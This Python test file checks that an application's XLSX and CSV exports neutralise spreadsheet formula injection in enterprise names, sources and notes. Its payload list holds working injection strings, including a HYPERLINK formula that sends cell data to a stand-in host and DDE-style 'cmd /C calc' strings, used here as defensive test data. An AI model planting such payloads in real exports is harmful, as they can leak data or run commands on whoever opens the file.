"""Finding 7: text that starts a spreadsheet formula is exported as text, never as a formula.

An enterprise name such as `=HYPERLINK("http://evil","点击")` reached the XLSX as a formula cell
and the CSV as a bare `=...` that Excel and WPS evaluate on opening."""

import csv
import io
import zipfile
from collections.abc import Iterator
from decimal import Decimal

import openpyxl
import pytest
from sqlalchemy import Numeric, literal, select, text

from app.core.export import export_response
from tests.support.chains import created, enterprise_body

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# XML parsers read a raw CR (which openpyxl writes as it is) back as LF.
READ_BACK = {p.replace("\r", "\n") for p in PAYLOADS}
# Exported cells whose text these records set: the enterprise name and source; the target's notes.
NAME, SOURCE, NOTES = "企业名称", "数据来源", "备注"


@pytest.fixture(scope="module")
def planted(client, admin, engine) -> Iterator[list[dict]]:
    """An external enterprise per payload (name and source), each on a target list with the payload as notes."""
    made: list[dict] = []
    try:
        for payload in PAYLOADS:
            body = enterprise_body([114.06, 22.54], is_local=False, name=payload, source=payload)
            with created(client, admin, "/api/v1/enterprises", body) as enterprise:
                r = client.post(
                    "/api/v1/targets",
                    json={
                        "enterprise_id": enterprise["id"],
                        "link_id": 1,
                        "region_adcode": "360700",
                        "source": "test suite",
                        "owner": "测试科",
                        "notes": payload,
                    },
                    headers=admin,
                )
                assert r.status_code == 201, r.text
                made.append(enterprise)
        yield made
    finally:
        with engine.begin() as conn:
            ids = [e["id"] for e in made]
            conn.execute(text("DELETE FROM targets WHERE enterprise_id = ANY(:e)"), {"e": ids})
            conn.execute(text("DELETE FROM enterprises WHERE id = ANY(:e)"), {"e": ids})


def _xlsx_rows(response) -> list[dict]:
    assert response.status_code == 200, response.text
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows())
    headers = [c.value for c in rows[0]]
    return [dict(zip(headers, row, strict=True)) for row in rows[1:]]


def test_xlsx_cells_are_text_with_the_value_unchanged(client, admin, planted) -> None:
    for path, params, columns in (
        ("/api/v1/enterprises/export", {"is_local": "false"}, (NAME, SOURCE)),
        ("/api/v1/targets/export", {}, (NOTES,)),
    ):
        r = client.get(path, params={**params, "format": "xlsx", "limit": 10_000}, headers=admin)
        sheet_xml = zipfile.ZipFile(io.BytesIO(r.content)).read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet_xml, "a formula cell was written"
        found = [row[col] for row in _xlsx_rows(r) for col in columns if row[col].value in READ_BACK]
        assert len(found) == len(PAYLOADS) * len(columns), path
        for cell in found:
            # Text, exactly as stored, and flagged so that editing the cell keeps it text.
            assert cell.data_type == "s" and cell.quotePrefix, (path, cell.value)


def test_csv_cells_are_neutralised(client, admin, planted) -> None:
    for path, params, columns in (
        ("/api/v1/enterprises/export", {"is_local": "false"}, (NAME, SOURCE)),
        ("/api/v1/targets/export", {}, (NOTES,)),
    ):
        r = client.get(path, params={**params, "format": "csv"}, headers=admin)
        assert r.status_code == 200, r.text
        rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
        for column in columns:
            cells = [row[column] for row in rows if row[column].lstrip("'") in PAYLOADS]
            # Every payload, each behind the apostrophe that makes a spreadsheet read the rest as text.
            assert sorted(cells) == sorted("'" + p for p in PAYLOADS), (path, column)
        # Nothing else starts a formula either.
        assert not [v for row in rows for v in row.values() if v[:1] in ("=", "+", "@", "\t", "\r")]


# No exported number can be negative today (revenues, counts, coordinates in China), so the rule
# is checked on a statement of its own through the same export path.
def _numbers_and_texts():
    return select(
        literal(Decimal("-3.50"), Numeric(10, 2)).label("number"),
        literal(-7).label("integer"),
        literal("-3.5").label("negative text"),
        literal("-1+2").label("formula text"),
    )


def test_negative_numbers_stay_numbers(db) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(export_response(db, _numbers_and_texts(), "xlsx", "t").body)).active
    number, integer, negative_text, formula_text = list(sheet.iter_rows())[1]
    assert (number.data_type, number.value) == ("n", -3.5) and (integer.data_type, integer.value) == ("n", -7)
    assert (negative_text.data_type, negative_text.value) == ("s", "-3.5")
    assert formula_text.quotePrefix and (formula_text.data_type, formula_text.value) == ("s", "-1+2")
    rows = list(csv.reader(io.StringIO(export_response(db, _numbers_and_texts(), "csv", "t").body.decode("utf-8-sig"))))
    # Numbers as numbers, a plain negative number as text unchanged (it runs nothing), a formula behind '.
    assert rows[1] == ["-3.50", "-7", "-3.5", "'-1+2"]
